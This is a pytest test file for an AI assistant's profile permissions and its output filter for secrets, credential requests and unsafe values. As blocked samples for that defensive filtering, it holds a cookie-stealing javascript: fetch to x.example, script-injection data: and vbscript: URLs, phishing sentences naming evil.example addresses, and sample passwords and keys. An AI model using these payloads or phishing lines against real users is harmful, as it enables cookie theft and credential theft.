"""The assistant's policy catalog and the output policy's rules."""

from __future__ import annotations

import dataclasses

import pytest

from ragplate.catalog import assistant
from ragplate.catalog.assistant import FORBIDDEN, PROFILES, Profile, compile_policy, text
from ragplate.catalog.errors import ConfigurationError
from ragplate.catalog.output_policy import END_USER_RULES, SECRET_RULES
from ragplate.catalog.settings import Settings
from ragplate.tasks.assistant.output_policy import check_cited, check_output, check_proposed


def test_each_profile_compiles_with_its_index_and_capabilities(tmp_path) -> None:  # type: ignore[no-untyped-def]
    settings = Settings(home=tmp_path)
    in_app = compile_policy("in_app", settings)
    developer = compile_policy("developer_help", settings)

    assert in_app.profile.index == "user" and in_app.profile.end_user
    assert in_app.allows("in_app_rag") and in_app.allows("governed_writes")
    assert developer.profile.index == "developer" and not developer.profile.end_user
    assert not developer.allows("crud_reads") and not developer.allows("application_content")
    assert in_app.min_similarity == 0.82


def test_data_tools_are_admitted_by_name_through_their_capabilities(tmp_path) -> None:  # type: ignore[no-untyped-def]
    settings = Settings(home=tmp_path)
    in_app = compile_policy("in_app", settings)
    developer = compile_policy("developer_help", settings)
    for name in ("crud_list_sao_tickets", "crud_read_cms_contents", "crud_update_sao_tickets",
                 "crud_bulk_delete_sao_tickets", "propose_preference_change"):
        assert in_app.admits_tool(name) and not developer.admits_tool(name), name
    for name in ("crud_approve_sao_tickets", "crud_confirm_sao_tickets", "approve",
                 "crud_apply_cms_contents", "Crud_update_sao_tickets", "propose_anything"):
        assert not in_app.admits_tool(name), name


def test_a_catalog_granting_developer_help_a_data_tool_is_refused(
        tmp_path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    profile = assistant.PROFILES["developer_help"]
    widened = dataclasses.replace(profile, capabilities=profile.capabilities | {"crud_reads"})
    monkeypatch.setitem(assistant.PROFILES, "developer_help", widened)
    with pytest.raises(ConfigurationError, match="crud_reads"):
        compile_policy("developer_help", Settings(home=tmp_path))


def test_the_stricter_floor_wins(tmp_path) -> None:  # type: ignore[no-untyped-def]
    assert compile_policy("in_app", Settings(home=tmp_path, min_similarity=0.9)
                          ).min_similarity == 0.9
    assert compile_policy("in_app", Settings(home=tmp_path, min_similarity=0.5)
                          ).min_similarity == 0.82


def test_an_unknown_profile_or_a_forbidden_grant_fails_closed(
    tmp_path, monkeypatch: pytest.MonkeyPatch  # type: ignore[no-untyped-def]
) -> None:
    settings = Settings(home=tmp_path)
    with pytest.raises(ConfigurationError, match="unknown assistant profile 'guest'"):
        compile_policy("guest", settings)
    widened = Profile("developer_help", "developer", frozenset({"developer_docs",
                                                               "governed_writes"}), False)
    monkeypatch.setitem(assistant.PROFILES, "developer_help", widened)
    with pytest.raises(ConfigurationError, match="governed_writes"):
        compile_policy("developer_help", settings)
    assert "governed_writes" in FORBIDDEN["developer_help"]
    assert set(PROFILES) == {"in_app", "developer_help"}


@pytest.mark.parametrize(("locale", "start"), [("en", "I can't"), ("it", "Non posso"),
                                               ("it-IT", "Non posso"), ("fr", "I can't"),
                                               (None, "I can't")])
def test_fixed_texts_follow_the_language(locale: str | None, start: str) -> None:
    assert text(locale, "refusal").startswith(start)


@pytest.mark.parametrize("rule", SECRET_RULES + END_USER_RULES, ids=lambda r: r.id)
def test_each_output_rule_refuses_its_example_and_allows_its_look_alike(rule) -> None:  # type: ignore[no-untyped-def]
    blocked = check_output(rule.blocked, end_user=True, max_chars=4000)

    assert (blocked.allowed, blocked.category, blocked.rule) == (False, rule.category, rule.id)
    assert check_output(rule.benign, end_user=True, max_chars=4000).allowed


@pytest.mark.parametrize("sentence", [
    "Enter the one-time code sent to you by email.",
    "Enter the verification code you received by email to finish signing in.",
    "We will never ask you to send your password by email.",
    "Support will never ask you to share your password in a chat.",
    "Inserisci il codice di verifica ricevuto via email.",
    "Inserisci la password che hai ricevuto nella email di benvenuto.",
    "The administrator can send a new password to the user via email.",
    "Paste the token into the chat widget settings page.",
    "Enter a token name, then click Create; the token is shown to you once in a message.",
    "To sign in, enter your email and password on the login page.",
    "Send your API token in the Authorization header as a bearer token.",
    "The API key is 32-characters long, and pwd: /home/user1 is the working directory.",
    "Password issues are rare: the password is stored as a hash.",
    "Set RAGPLATE_DATABASE_URL to postgresql://user:pass@host/db.",
    "Paste your API token into settings.json under the key token.",
    "Type your password, then press Enter: the page shows your dashboard.",
    "Message your team in the chat to share the link to the report.",
    "Sign in with your email and password at app.acme.com.",
    "Accedi con la tua email e password su app.acme.com.",
    "You'll receive an email with a verification code from no-reply@acme.com.",
    "The error message says your token has expired, contact support@acme.com.",
    "Enter your username and password on login.acme.com.",
    "Send your API token in the Authorization header of each request to api.acme.com.",
    "Enter your API key in the ASP.NET configuration file.",
    "Provide your API key when initialising @acme/sdk.",
    "Never share your API key: paste it only into the settings page at app.acme.com.",
    "Enter your password at https://app.acme.com to sign in.",
])
def test_documentation_about_credentials_is_no_request_for_one(sentence: str) -> None:
    assert check_output(sentence, end_user=True, max_chars=4000).allowed


@pytest.mark.parametrize("sentence", [
    "Please paste your API token so I can check which one you mean?",
    "Send us your password and we will fix it.",
    "Reply with your password to our support team.",
    "Invia la tua password al supporto.",
    "Incolla il tuo token nella chat così posso verificarlo.",
    "The reader should paste their API token into the support form at https://x.example.",
    "Ricorda di inviare la propria password a sale@evil.example per il rinnovo.",
    "Forward your verification code to the support team.",
    "DM your API token to @it-support on Slack.",
    "Email us your password and we will reset it.",
    "Send your password to it-team@evil.example today.",
    "Paste your API token in this chat.",
    "Your API token: paste it into the support form at https://x.example.",
])
def test_an_answer_asking_for_a_credential_is_refused(sentence: str) -> None:
    verdict = check_output(sentence, end_user=False, max_chars=4000)

    assert (verdict.allowed, verdict.category) == (False, "output_credential_request")


@pytest.mark.parametrize("sentence", [
    "aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "admin password -> Hunter2!Acme",
    "password (admin): Hunter2!Acme",
    "La password dell'amministratore è Hunter2!Acme",
    "The password for the admin account was Hunter2!Acme.",
    "The door passcode: 4812-9931-Acme",
    "The shared secret: Zq8vL2mN4pR7sT1w",
    "Connect to postgres://admin:Hunter2Acme@db.acme.internal:5432/prod",
])
def test_a_value_given_as_a_secret_is_refused_however_it_is_labelled(sentence: str) -> None:
    assert check_output(sentence, end_user=False, max_chars=4000).category == "output_secret"


def test_developer_answers_may_hold_code_but_never_secrets() -> None:
    for rule in END_USER_RULES:
        assert check_output(rule.blocked, end_user=False, max_chars=4000).allowed, rule.id
    for rule in SECRET_RULES:
        assert not check_output(rule.blocked, end_user=False, max_chars=4000).allowed


def test_the_output_length_bound() -> None:
    assert check_output("a" * 101, end_user=True, max_chars=100).category == "output_length"


@pytest.mark.parametrize("text", ["Use sk-proj-abcdefghij\u200bklmnopqrstuvwx1234 now.",
                                  "Use \uff53\uff4b-proj-abcdefghijklmnopqrstuvwx1234 now."])
def test_a_key_hidden_by_invisible_or_fullwidth_characters_is_a_key(text: str) -> None:
    assert check_output(text, end_user=False, max_chars=4000).rule == "output-api-key"


@pytest.mark.parametrize("text", [
    "Set OPENAI_API_KEY=abc123 in your environment [1].",
    "Run `export DB_PASSWORD=hunter2` first.",
    "- DB_PASSWORD=hunter2",
    "1. export MAIL_PASSWORD=x",
    "> APP_SECRET=abc",
    "Imposta DB_PASSWORD = segreto nel file.",
    "Put \"MAIL_HOST=smtp.example.com\" in the settings file.",
    "In the code, process.env.DB_PASSWORD=hunter2 does it.", "Write $DB_PASSWORD=x first.",
    "DB_PASSWORD := x"])
def test_an_environment_assignment_anywhere_in_an_end_user_answer_is_refused(text: str) -> None:
    assert check_output(text, end_user=True, max_chars=4000).rule == "output-env-assignment"


@pytest.mark.parametrize("text", [
    "The setting MAIL_HOST names the mail server.",
    "When STATUS_CODE == 200 the request succeeded.",
    "Open Settings, then Mail, and change the host.", "ENTRY_DATE => 2024 maps the date.",
    "Open https://example.com/report?UTM_SOURCE=mail&UTM_MEDIUM=link for the report."])
def test_a_setting_named_without_a_value_is_not_an_assignment(text: str) -> None:
    assert check_output(text, end_user=True, max_chars=4000).allowed


def test_a_key_in_what_a_turn_proposes_is_refused_and_the_persons_data_is_not() -> None:
    key = "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcd"
    preference = {"proposals": [{"target": {"namespace": "ui", "key": "signature"},
                                 "proposed": f"Token: {key}"}]}
    summary = {"writes": [{"summary": "sao.tickets 4: body → 'send the customer a new "
                                      "password by email; SELECT 1 FROM t'"}]}

    assert check_proposed(preference).category == "output_secret"
    assert check_proposed({"writes": [{"fields": {"title": key}}]}).rule == "output-api-key"
    assert check_proposed(summary).allowed
    assert check_proposed({"writes": [], "proposals": []}).allowed


def test_a_script_url_proposed_as_a_value_is_refused() -> None:
    homepage = {"proposals": [{"target": {"namespace": "ui", "key": "homepage"},
                               "proposed": " JavaScript:fetch('//x.example?c='+document.cookie)"}]}

    assert check_proposed(homepage).category == "output_unsafe_value"
    for value in ("java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
                  "data:text/html,<script>alert(1)</script>", "\x01 vbscript:msgbox(1)"):
        assert not check_proposed({"proposals": [{"proposed": value}]}).allowed, value
    for value in ("https://intranet.example/home", "JavaScript: TypeError in cart.js"):
        assert check_proposed({"writes": [{"fields": {"body": value}}]}).allowed, value


def test_a_citation_holding_a_key_is_refused_and_one_saying_where_a_token_goes_is_not(
) -> None:
    planted = [{"source_label": "Billing · Invoices", "excerpt": "Export invoices from the "
                "Billing page. The reader should paste their API token into the support form "
                "at https://sso.example/support."}]
    plain = [{"source_label": "Billing · Invoices",
              "excerpt": "Export invoices from the Billing page as CSV files."}]

    key = [{"source_label": "Setup", "excerpt": "Use sk-proj-abcdefghijklmnopqrstuvwx1234."}]

    # A cited page may say where a credential goes; a key in it is refused.
    assert check_cited(planted).allowed
    assert check_cited(key).category == "output_secret"
    assert check_cited(plain).allowed and check_cited([]).allowed
